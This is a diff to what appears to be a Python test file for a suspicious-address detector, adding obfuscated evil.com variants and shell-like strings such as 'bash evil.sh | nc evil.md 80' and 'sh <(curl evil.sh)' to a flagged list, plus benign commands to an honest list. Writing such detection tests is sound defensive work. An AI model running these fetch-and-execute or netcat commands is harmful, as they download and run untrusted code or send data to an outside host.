@@ -16,7 +16,9 @@ ADDRESSES = [
     "`evil.com`", "**evil.com**", "evil.xn--p1ai", "hxxps://evil.com", "smb://evil.com/x",
     "[x](https&colon;//evil.com)", "[x](/logout(a))", f"{OWN}.evil.com", "EVIL.COM", ".evil.com",
     "[x](//evil)", "e\u200bvil.c\u00adom", "evil.zip", "portail.lan", "nas.corp", "evil.dev",
-    "`data.nc`", "evil.рф",
+    "`data.nc`", "evil.рф", "`curl evil.sh`", "`python evil.com`", "`ssh evil.py`",
+    "`bash evil.sh | nc evil.md 80`", "`cat https://evil.sh/x`", "`python x@evil.py`",
+    "`sh <(curl evil.sh)`", "`xdg-open evil.md`", "`cat evil.zip`", "python evil.py",
 ]  # fmt: skip
 HONEST = [
     "Ouvrez C:\\Windows\\notepad.exe", "Modifiez /etc/apt/sources.list", "Version 10.0.19045.3",
@@ -24,6 +26,8 @@ HONEST = [
     "Prenez scipy.signal.firwin", "`install.packages('sf')`", "Vérifiez network.lic",
     "Son adresse finit par /dav.php", "sys.path.append",
     "Windows 11 22H2", "1.2.3", f"Voir [le ticket]({OWN}) [1]", "a.b", "imprimante_2.ppd",
+    "`sha256sum file.nc`", "`python mon_script.py --all`", "`ncdump -h 'a-b.nc'`",
+    "`sbatch ./job.sh`", "`Rscript -e 1 x.R run.pl`",
 ]  # fmt: skip
 
 
